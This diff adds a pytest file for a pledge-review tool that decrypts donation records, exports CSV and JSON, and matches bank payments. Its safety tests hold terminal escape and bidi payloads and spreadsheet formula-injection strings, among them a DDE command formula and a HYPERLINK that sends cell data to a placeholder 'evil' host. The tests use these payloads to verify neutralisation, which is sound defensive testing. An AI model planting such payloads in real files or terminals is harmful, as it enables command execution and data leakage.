@@ -1,0 +1,571 @@
+"""`review`: open collected files, merge duplicates, terminal- and spreadsheet-safe output, payment matching."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import stat
+import tempfile
+import unicodedata
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pledgebox import cli, keys, pledges, review, sealing
+from tests.conftest import FAST_SCRYPT, PASSPHRASE
+
+CAMPAIGN = "test-campaign"
+
+
+def ref(n: int) -> str:
+    """A valid reference code for test pledge n."""
+    return pledges.make_reference(b"test%d" % n)
+
+
+def plaintext(n: int = 0, **fields) -> bytes:
+    """A pledge's plaintext as the web app seals it."""
+    doc = {"reference": ref(n), "amount": "25.00", "currency": "EUR", "designation": "split", "method": "sepa",
+           "pseudonym": "", "contact": "", "message": "", "language": "en", "day": "2026-11-25"} | fields
+    return json.dumps(doc, ensure_ascii=False, separators=(",", ":")).encode()
+
+
+def sealed(identities, n: int = 0, **fields) -> bytes:
+    """A sealed record of pledge n to the given identities."""
+    return sealing.seal(plaintext(n, **fields), [i.recipient for i in identities], CAMPAIGN)
+
+
+def write_records(path, items) -> None:
+    """A collected file: RECORD_ID SP RECORD LF per record."""
+    path.write_bytes(b"".join(record_id.encode() + b" " + record + b"\n" for record_id, record in items))
+
+
+@pytest.fixture
+def keyfile(tmp_path, identity):
+    """The first organiser's identity file, with fast test scrypt."""
+    path = tmp_path / "org.identity"
+    identity.save(path, PASSPHRASE, scrypt_n=FAST_SCRYPT)
+    return path
+
+
+@pytest.fixture
+def passfile(tmp_path):
+    path = tmp_path / "pass"
+    path.write_bytes(PASSPHRASE + b"\n")
+    return path
+
+
+@pytest.fixture
+def run(keyfile, passfile, capsys):
+    """Run review through cli.main; return (exit code, stdout, stderr)."""
+    def run(*args, identity=keyfile):
+        code = cli.main(["review", *map(str, args), "--identity", str(identity), "--passphrase-file", str(passfile)])
+        out, err = capsys.readouterr()
+        return code, out, err
+    return run
+
+
+def rows(out: str) -> list[str]:
+    """The table lines that show a pledge."""
+    return [line for line in out.splitlines() if re.match(r"[0-9A-Z]{5}-[0-9A-Z]{5}  ", line)]
+
+
+# -- opening and merging ---------------------------------------------------------------------------
+
+def test_the_table_shows_every_pledge_and_totals(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [
+        ("r1", sealed([identity], 1, amount="25.00", designation="solidarity-zone", method="sepa",
+                      pseudonym="Аня", message="Держитесь! Солидарность")),
+        ("r2", sealed([identity], 2, amount="1000.50", designation="abc-irkutsk", method="cash",
+                      contact="anna@example.org", day="2026-11-24")),
+        ("r3", sealed([identity], 3, amount="10.00", designation="split", method="sepa", pseudonym="Jörg")),
+    ])
+    code, out, err = run(tmp_path / "a.sealed")
+    assert code == 0, err
+    assert err == ""
+    lines = rows(out)
+    assert len(lines) == 3
+    assert lines[0].startswith(ref(2))  # sorted by day
+    assert "Аня" in out and "Держитесь! Солидарность" in out and "Jörg" in out and "anna@example.org" in out
+    header = out.splitlines()[0].split()
+    assert header == ["REFERENCE", "DAY", "AMOUNT", "DESIGNATION", "METHOD", "PSEUDONYM", "CONTACT", "MESSAGE"]
+    assert "1,000.50" in out
+    assert re.search(r"^  abc-irkutsk\s+1\s+1,000.50$", out, re.M)
+    assert re.search(r"^  sepa\s+2\s+35.00$", out, re.M)
+    assert re.search(r"^  cash\s+1\s+1,000.50$", out, re.M)
+    assert re.search(r"^All\s+3\s+1,035.50$", out, re.M)
+    assert "1 file, 3 records: 3 pledges." in out
+
+
+def test_duplicates_from_several_files_are_merged(tmp_path, identities, run):
+    identity = identities[0]
+    one, two = sealed([identity], 1), sealed([identity], 2)
+    again = sealed([identity], 2)  # the same pledge, sealed again by another instance: new ciphertext, new id
+    write_records(tmp_path / "server.sealed", [("r1", one), ("r2", two)])
+    write_records(tmp_path / "mirror.sealed", [("r1", one), ("other-id", again), ("r3", sealed([identity], 3))])
+    code, out, err = run(tmp_path / "server.sealed", tmp_path / "mirror.sealed", tmp_path / "server.sealed")
+    assert code == 0, err
+    assert sorted(line[:11] for line in rows(out)) == sorted([ref(1), ref(2), ref(3)])
+    assert "3 files, 7 records: 3 pledges, 4 duplicates merged." in out
+
+
+def test_same_reference_with_different_contents_is_shown_and_warned(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, amount="25.00"))])
+    write_records(tmp_path / "b.sealed", [("x1", sealed([identity], 1, amount="2500.00"))])
+    code, out, err = run(tmp_path / "a.sealed", tmp_path / "b.sealed")
+    assert code == 0
+    assert len(rows(out)) == 2
+    assert f"reference {ref(1)} appears with different contents at" in err
+    assert "a.sealed:1" in err and "b.sealed:1" in err
+
+
+def test_records_sealed_to_other_keys_are_counted_not_an_error(tmp_path, identities, run):
+    mine, theirs = identities[0], identities[1]
+    write_records(tmp_path / "a.sealed", [("r1", sealed([mine], 1)), ("r2", sealed([theirs], 2)),
+                                          ("r3", sealed([theirs], 3))])
+    code, out, err = run(tmp_path / "a.sealed")
+    assert code == 0
+    assert [line[:11] for line in rows(out)] == [ref(1)]
+    assert "2 sealed to other keys" in out
+    assert f"2 records sealed only to other keys ({theirs.recipient.fingerprint})" in err
+
+
+def test_a_wrong_key_opens_nothing_and_says_so(tmp_path, identities, keyfile, run):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identities[1]], 1))])
+    code, out, err = run(tmp_path / "a.sealed")
+    assert code == 0
+    assert rows(out) == []
+    assert "1 sealed to other keys" in out
+    assert "is it the right one?" in err
+
+
+def test_a_wrong_passphrase_is_an_error_and_writes_nothing(tmp_path, identity, keyfile, capsys):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
+    wrong = tmp_path / "wrong"
+    wrong.write_text("not the passphrase\n")
+    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(keyfile),
+                     "--passphrase-file", str(wrong), "--csv", str(tmp_path / "out.csv")])
+    out, err = capsys.readouterr()
+    assert code == 1
+    assert err.startswith("pledgebox: error: Wrong passphrase")
+    assert "pledgebox: hint:" in err
+    assert out == "" and not (tmp_path / "out.csv").exists()
+
+
+def test_a_truncated_file_reports_the_cut_record_and_keeps_the_rest(tmp_path, identity, run):
+    path = tmp_path / "a.sealed"
+    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(3)])
+    data = path.read_bytes()
+    path.write_bytes(data[:len(data) - 700])  # cut inside the last record
+    code, out, err = run(path)
+    assert code == 0
+    assert sorted(line[:11] for line in rows(out)) == sorted([ref(0), ref(1)])
+    assert f"{path}:3: damaged (incomplete last line" in err
+    assert "1 damaged and skipped" in out
+
+
+def _flip(text: bytes, at: int) -> bytes:
+    """Change one base64url character of a record."""
+    old = text[at:at + 1]
+    return text[:at] + (b"A" if old != b"A" else b"B") + text[at + 1:]
+
+
+def test_tampered_records_are_reported_by_file_and_line_and_skipped(tmp_path, identities, run):
+    identity = identities[0]
+    good = sealed([identity], 1)
+    tampered = _flip(sealed([identity], 2), 600)
+    forged_kinds = [
+        sealing.seal(b"[]", [identity.recipient], CAMPAIGN),
+        sealing.seal(plaintext(4, amount="NaN"), [identity.recipient], CAMPAIGN),
+        sealing.seal(plaintext(5, reference="AAAAA-AAAAA"), [identity.recipient], CAMPAIGN),
+        sealing.seal(plaintext(6, message=["not", "text"]), [identity.recipient], CAMPAIGN),
+        sealing.seal(b'{"reference":"\\ud800"}', [identity.recipient], CAMPAIGN),
+        sealing.seal(b"\xff\xfe not utf-8", [identity.recipient], CAMPAIGN),
+    ]
+    path = tmp_path / "a.sealed"
+    write_records(path, [("r1", good), ("r2", tampered), ("r3", b'{"v":1,"c":"x","k":"nope"}'),
+                         ("r4", b"not json at all"), ("r5", b'{"v":99,"c":"x","k":[]}')]
+                  + [(f"f{i}", record) for i, record in enumerate(forged_kinds)])
+    with open(path, "ab") as file:
+        file.write(b"garbage-without-a-space\n\xff\xfe\x1b[2J\n")
+    code, out, err = run(path)
+    assert code == 0
+    assert [line[:11] for line in rows(out)] == [ref(1)]
+    assert f"{path}:2: damaged (it failed authentication: it was altered or cut), skipped" in err
+    for line in range(3, 14):
+        assert f"{path}:{line}: damaged (" in err
+    assert "\x1b" not in out + err
+    assert "12 damaged and skipped" in out
+
+
+def test_the_identity_file_given_as_input_is_refused(tmp_path, keyfile, run):
+    code, _, err = run(keyfile)
+    assert code == 2
+    assert "identity file, not a file of collected pledges" in err
+
+
+def test_a_missing_input_file_is_an_error(tmp_path, run):
+    code, _, err = run(tmp_path / "nope.sealed")
+    assert code == 1
+    assert err.startswith("pledgebox: error: The file of sealed records could not be read")
+
+
+def test_several_identities_open_old_and_new_records(tmp_path, identities, keyfile, passfile, capsys):
+    old, new = identities[0], identities[1]
+    newfile = tmp_path / "new.identity"
+    new.save(newfile, PASSPHRASE, scrypt_n=FAST_SCRYPT)
+    write_records(tmp_path / "a.sealed", [("r1", sealed([old], 1)), ("r2", sealed([new], 2))])
+    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(newfile), "--identity", str(keyfile),
+                     "--passphrase-file", str(passfile)])
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    assert sorted(line[:11] for line in rows(out)) == sorted([ref(1), ref(2)])
+
+
+def test_one_passphrase_file_per_identity_or_one_for_all(tmp_path, keyfile, passfile, capsys):
+    (tmp_path / "a.sealed").write_bytes(b"")
+    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(keyfile),
+                     "--passphrase-file", str(passfile), "--passphrase-file", str(passfile),
+                     "--passphrase-file", str(passfile)])
+    assert code == 2
+    assert "one per --identity" in capsys.readouterr().err
+
+
+def test_the_worker_pool_gives_the_same_result_as_one_process(tmp_path, identities):
+    identity = identities[0]
+    path = tmp_path / "a.sealed"
+    items = [(f"r{i}", sealed([identity], i, amount=f"{i + 1}.00")) for i in range(30)]
+    items += [("other", sealed([identities[1]], 99)), ("r3", items[3][1]), ("bad", b"not json")]
+    write_records(path, items)
+    one = review.open_files([path], [identity], processes=1)
+    pool = review.open_files([path], [identity], processes=2)
+    assert [e.document(False) for e in pool.entries] == [e.document(False) for e in one.entries]
+    assert len(one.entries) == 30
+    assert (pool.duplicates, pool.other_keys, pool.damaged) == (one.duplicates, one.other_keys, one.damaged)
+
+
+def test_large_inputs_use_every_core_and_small_ones_one_process():
+    assert review.default_processes(10) == 1
+    assert review.default_processes(review.POOL_MIN_RECORDS) == len(os.sched_getaffinity(0))
+
+
+# -- progress --------------------------------------------------------------------------------------
+
+class Terminal(io.StringIO):
+    """A stand-in for stderr on a terminal."""
+
+    def isatty(self) -> bool:
+        return True
+
+
+def test_a_progress_bar_is_drawn_on_a_terminal_and_erased(tmp_path, identity):
+    path = tmp_path / "a.sealed"
+    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(5)])
+    stream = Terminal()
+    progress = review.Progress(stream, 5, minimum=1)
+    progress.advance(5)
+    progress.close()
+    text = stream.getvalue()
+    assert "100%" in text and "5/5 records" in text
+    assert text.endswith("\r")
+    assert review.PROGRESS_MIN_RECORDS > 5
+    # A small job, or stderr that is not a terminal: no bar at all.
+    quiet = Terminal()
+    review.open_files([path], [identity], progress_stream=quiet)
+    assert quiet.getvalue() == ""
+    piped = io.StringIO()
+    progress = review.Progress(piped, 10**6, minimum=1)
+    progress.advance(10**6)
+    progress.close()
+    assert piped.getvalue() == ""
+
+
+def test_review_of_many_records_shows_progress_on_a_terminal(tmp_path, identity, monkeypatch):
+    monkeypatch.setattr(review, "PROGRESS_MIN_RECORDS", 3)
+    monkeypatch.setattr(review, "BATCH", 2)
+    path = tmp_path / "a.sealed"
+    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(5)])
+    stream = Terminal()
+    result = review.open_files([path], [identity], progress_stream=stream)
+    assert len(result.entries) == 5
+    assert "5/5 records" in stream.getvalue()
+
+
+# -- terminal and spreadsheet safety ---------------------------------------------------------------
+
+PAYLOADS = {
+    "pseudonym": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
+    "contact": "\x9b31m C1 CSI \x7f DEL \x00 NUL",
+    "message": "line one\nline two\r\x08\x08\u202eevil\u202c \u2066isolate\u2069 \u2028sep \ufeffbom",
+    "designation": "\x1bP+q\x1b\\",
+    "method": "\u200f\u061c",
+}
+RAW_DANGER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
+
+
+def test_control_characters_and_bidi_overrides_never_reach_the_terminal(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS))])
+    code, out, err = run(tmp_path / "a.sealed", "--wide")
+    assert code == 0
+    assert not RAW_DANGER.search(out + err)
+    assert out.count("\n") == len(out.splitlines())  # no raw CR in a line
+    assert "\\x1b]0;owned\\x07\\x1b[2J" in out
+    assert "\\x9b31m" in out and "\\x7f" in out and "\\x00" in out
+    assert "line one\\nline two\\r\\x08\\x08[U+202E]evil[U+202C] [U+2066]isolate[U+2069] [U+2028]sep" in out
+
+
+@given(st.text())
+def test_terminal_text_is_always_safe(text):
+    safe = review.terminal_text(text)
+    assert not RAW_DANGER.search(safe)
+    assert not any(unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") for ch in safe)
+
+
+@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp")), max_size=40))
+def test_terminal_text_leaves_ordinary_text_alone(text):
+    assert review.terminal_text(text) == text.replace("\\", "\\\\")
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            "  =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_csv_cells_are_neutralised_against_formulas(payload):
+    assert review.csv_cell(payload) == "'" + payload
+
+
+@given(st.text())
+def test_no_csv_cell_starts_like_a_formula(text):
+    cell = review.csv_cell(text)
+    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell)
+
+
+def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [
+        ("r1", sealed([identity], 1, pseudonym=FORMULAS[0], contact="+49 30 1234", message="-5 € please",
+                      designation="@SUM(A1)")),
+        ("r2", sealed([identity], 2, pseudonym="Аня", message="Zeile 1\nZeile 2, mit \"Anführung\"")),
+    ])
+    out_csv = tmp_path / "pledges.csv"
+    code, out, err = run(tmp_path / "a.sealed", "--csv", out_csv)
+    assert code == 0, err
+    assert stat.S_IMODE(out_csv.stat().st_mode) == 0o600
+    assert f"Wrote {out_csv} (mode 0600)" in out
+    raw = out_csv.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for spreadsheet programs
+    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    by_ref = {row["reference"]: row for row in table}
+    first, second = by_ref[ref(1)], by_ref[ref(2)]
+    assert first["pseudonym"] == "'" + FORMULAS[0]
+    assert first["contact"] == "'+49 30 1234"
+    assert first["message"] == "'-5 € please"
+    assert first["designation"] == "'@SUM(A1)"
+    assert first["amount"] == "25.00" and first["currency"] == "EUR"
+    assert second["pseudonym"] == "Аня"
+    assert second["message"] == "Zeile 1\nZeile 2, mit \"Anführung\""
+    for row in table:
+        for value in row.values():
+            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_json_export_is_private_exact_and_terminal_safe(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS)),
+                                          ("r2", sealed([identity], 2, pseudonym="Пётр"))])
+    with open(tmp_path / "a.sealed", "ab") as file:
+        file.write(b"broken line\n")
+    out_json = tmp_path / "pledges.json"
+    code, _, err = run(tmp_path / "a.sealed", "--json", out_json)
+    assert code == 0, err
+    assert stat.S_IMODE(out_json.stat().st_mode) == 0o600
+    text = out_json.read_text(encoding="utf-8")
+    assert not RAW_DANGER.search(text)
+    assert "Пётр" in text  # readable, not \u escaped
+    doc = json.loads(text)
+    pledge = next(p for p in doc["pledges"] if p["reference"] == ref(1))
+    for name, payload in PAYLOADS.items():
+        assert pledge[name] == payload  # exact, once decoded
+    assert pledge["sources"] == [{"file": str(tmp_path / "a.sealed"), "line": 1}]
+    assert doc["damaged"][0]["line"] == 3
+    assert doc["totals"]["all"]["all"] == {"pledges": 2, "amount": "50.00", "received": "0.00"}
+
+
+@pytest.mark.parametrize("option", ["--csv", "--json"])
+def test_outputs_are_never_overwritten_and_refused_before_any_work(tmp_path, identity, run, monkeypatch, option):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
+    existing = tmp_path / "existing"
+    existing.write_text("keep\n")
+    monkeypatch.setattr(keys, "load", lambda *a: pytest.fail("the identity was opened"))
+    code, out, err = run(tmp_path / "a.sealed", option, existing)
+    assert code == 1
+    assert err.startswith("pledgebox: error: The output file already exists")
+    assert "pledgebox: hint:" in err
+    assert existing.read_text() == "keep\n"
+
+
+def test_a_long_message_is_cut_to_the_terminal_unless_wide(tmp_path, identity, run, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "100")
+    message = "Солидарность " * 40
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, message=message))])
+    code, out, _ = run(tmp_path / "a.sealed")
+    assert code == 0
+    line = rows(out)[0]
+    assert review.width(line) <= 100 and line.endswith("…")
+    code, out, _ = run(tmp_path / "a.sealed", "--wide")
+    assert message.strip() in out
+
+
+def test_wide_characters_count_double():
+    assert review.width("漢字") == 4
+    assert review.width("é") == 1 and review.width("e\u0301") == 1
+    assert review.fit("漢字漢字", 5) == "漢字…"
+
+
+# -- payments --------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, mark, amount", [
+    ("1.234,50", ",", "1234.50"), ("1,234.50", ".", "1234.50"), ("25,00", ",", "25.00"), ("25.5", ".", "25.50"),
+    ("1.234", ",", "1234.00"), ("1,234", ".", "1234.00"), ("1.234.567,89", ",", "1234567.89"),
+    ("-12,00", ",", "-12.00"), ("25,00-", ",", "-25.00"), ("+25,00 €", ",", "25.00"), ("EUR 1 234,50", ",", "1234.50"),
+    ("1\u00a0234,50 EUR", ",", "1234.50"), ("100", ".", "100.00"), ("1,234", ",", None), ("12,3456", ",", None),
+    ("1,23,456", ".", None), ("", ",", None), ("abc", ".", None), ("1.2.3,4,5", ",", None), ("-", ".", None),
+])
+def test_amounts_from_bank_statements(text, mark, amount):
+    assert review.parse_money(text, mark) == (Decimal(amount) if amount else None)
+
+
+GERMAN = """Kontonummer:;DE89 3704 0044 0532 0130 00;
+Zeitraum:;01.11.2026 - 30.11.2026;
+
+Buchungstag;Valuta;Auftraggeber / Begünstigter;Buchungstext;Verwendungszweck;Betrag (EUR);Währung
+24.11.2026;24.11.2026;Max Muster;Gutschrift;{ref1};25,00;EUR
+24.11.2026;24.11.2026;Erika;Gutschrift;"Spende {ref2_loose} danke";1.000,00;EUR
+25.11.2026;25.11.2026;Jemand;Gutschrift;SPENDE {ref3_spaced};5,00;EUR
+25.11.2026;25.11.2026;Miete;Lastschrift;Miete November;-800,00;EUR
+26.11.2026;26.11.2026;Unbekannt;Gutschrift;{typo};10,00;EUR
+26.11.2026;26.11.2026;Fremd;Gutschrift;{unknown};7,50;EUR
+26.11.2026;26.11.2026;Ohne;Gutschrift;Für die Gefangenen;20,00;EUR
+27.11.2026;27.11.2026;Max Muster;Gutschrift;Rest {ref1};5,00;EUR
+"""
+
+
+def _typo(reference: str) -> str:
+    """reference with one character changed: its check character no longer fits."""
+    code = reference.replace("-", "")
+    wrong = pledges.ALPHABET[(pledges.ALPHABET.index(code[2]) + 1) % 32]
+    return code[:2] + wrong + code[3:]
+
+
+def test_a_german_bank_statement_is_matched_by_reference(tmp_path, identity, run):
+    amounts = {1: "50.00", 2: "1000.00", 3: "10.00", 4: "30.00"}
+    write_records(tmp_path / "a.sealed", [(f"r{n}", sealed([identity], n, amount=a)) for n, a in amounts.items()])
+    unknown = pledges.make_reference(b"nobody")
+    statement = GERMAN.format(ref1=ref(1), ref2_loose=ref(2).replace("-", "").lower(),
+                              ref3_spaced=ref(3)[:3] + " " + ref(3)[3:].replace("-", " "),
+                              typo=_typo(ref(4)), unknown=unknown)
+    bank = tmp_path / "umsaetze.csv"
+    bank.write_bytes(statement.encode("cp1252"))  # German banks often export Windows-1252
+    out_json = tmp_path / "p.json"
+    code, out, err = run(tmp_path / "a.sealed", "--payments", bank, "--json", out_json)
+    assert code == 0, err
+    status = {line[:11]: line for line in rows(out)}
+    assert status[ref(1)].rstrip().endswith("30.00  partly received")
+    assert status[ref(2)].rstrip().endswith("1,000.00  received")
+    assert status[ref(3)].rstrip().endswith("5.00  partly received")
+    assert status[ref(4)].rstrip().endswith("0.00  open")
+    assert "7 incoming, 4 matched to pledges" in out
+    assert "1 rows with an amount of zero or less were left out" in out
+    assert "3 payments (37.50) have no known reference:" in out
+    assert f"a typo of {ref(4)}?" in out
+    assert f"reference {unknown} is not among the pledges" in out
+    assert "no reference found" in out
+    assert "Received: 1,035.00 of 1,090.00 pledged: 1 received, 2 partly received, 1 open." in out
+    assert "\n  python app.py raised 1035.00\n" in out
+    assert "python app.py raised 1035.00 --pledged 1090.00" in out
+    doc = json.loads(out_json.read_text())
+    assert doc["payments"]["received"] == "1035.00"
+    assert {p["reference"]: p["status"] for p in doc["pledges"]}[ref(2)] == "received"
+
+
+def test_an_english_statement_with_commas(tmp_path, identity, run):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, amount="1234.50")),
+                                          ("r2", sealed([identity], 2, amount="20.00"))])
+    bank = tmp_path / "statement.csv"
+    bank.write_text(
+        "Date,Description,Reference,Amount,Balance\n"
+        f"2026-11-24,Transfer,\"Donation, ref {ref(1).lower()}\",\"1,234.50\",\"9,999.00\"\n"
+        f"2026-11-25,Transfer,{ref(2)},25.00,\"10,024.00\"\n"
+        "2026-11-25,Card,Coffee,-3.20,\"10,020.80\"\n", encoding="utf-8")
+    code, out, err = run(tmp_path / "a.sealed", "--payments", bank)
+    assert code == 0, err
+    status = {line[:11]: line.rstrip() for line in rows(out)}
+    assert status[ref(1)].endswith("1,234.50  received")
+    assert status[ref(2)].endswith("25.00  received")  # paid more than pledged: received
+    assert "python app.py raised 1259.50" in out
+
+
+def test_a_payments_file_without_the_columns_is_an_error_before_any_work(tmp_path, identity, run, monkeypatch):
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
+    bank = tmp_path / "bank.csv"
+    bank.write_text("Datum;Name;Summe\n01.01.2026;X;5,00\n", encoding="utf-8")
+    monkeypatch.setattr(keys, "load", lambda *a: pytest.fail("the identity was opened"))
+    code, _, err = run(tmp_path / "a.sealed", "--payments", bank)
+    assert code == 1
+    assert "no header row with a reference column and an amount column" in err
+    assert "Verwendungszweck" in err  # the hint names the expected columns
+
+
+def test_one_transfer_for_two_pledges_fills_both(identity):
+    entries = [review.Entry(reference=ref(n), day="2026-11-25", amount=Decimal(a), currency="EUR",
+                            designation="split", method="sepa", pseudonym="", contact="", message="",
+                            language="en", campaign=CAMPAIGN, record_id=f"r{n}") for n, a in ((1, "20"), (2, "30"))]
+    payments = review.Payments("bank.csv", [review.Payment(2, Decimal("60"), f"{ref(1)} und {ref(2)}")], "")
+    matching = review.match(entries, payments)
+    assert matching.received == Decimal("60")
+    assert [(e.received, e.status) for e in entries] == [(Decimal("20"), "received"), (Decimal("40"), "received")]
+
+
+def test_a_reference_is_found_in_any_case_with_any_separators():
+    reference = ref(7)
+    known = {reference.replace("-", ""): reference}
+    code = reference.replace("-", "")
+    for text in (reference, reference.lower(), code, f"{code[:5]} {code[5:]}", f"{code[:5]}.{code[5:]}",
+                 f"Spende:{code}/danke", " ".join(code), f"x{code}y"):
+        assert review.find_references(text, known) == [reference], text
+    assert review.find_references(_typo(reference), known) == []
+
+
+@settings(max_examples=60, deadline=None)
+@given(lines=st.lists(st.one_of(
+    st.binary(max_size=300),
+    st.builds(lambda key, body: b'r {"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (key, body),
+              st.sampled_from([b"0011223344556677", b"zz"]), st.text("AZaz09-_", max_size=80).map(str.encode)),
+), max_size=12))
+def test_no_file_content_crashes_review(identities, lines):
+    identity = identities[0]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "fuzz.sealed"
+        path.write_bytes(b"\n".join(lines))
+        result = review.open_files([path], [identity])
+        assert result.entries == []
+        assert len(result.damaged) + sum(result.other_keys.values()) + result.duplicates == result.records
+        out, err = io.StringIO(), io.StringIO()
+        review.report(result, None, out, err)
+        assert not RAW_DANGER.search(out.getvalue() + err.getvalue())
+
+
+@settings(max_examples=40, deadline=None)
+@given(ciphertext=st.binary(min_size=0, max_size=1300))
+def test_random_ciphertext_addressed_to_the_identity_is_damaged_not_a_crash(identities, ciphertext):
+    identity = identities[0]
+    import base64
+    body = base64.urlsafe_b64encode(ciphertext).rstrip(b"=")
+    record = b'{"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (identity.recipient.key_id.encode(), body)
+    kind, why = review.open_record(record, [identity])
+    assert kind == "damaged" and why
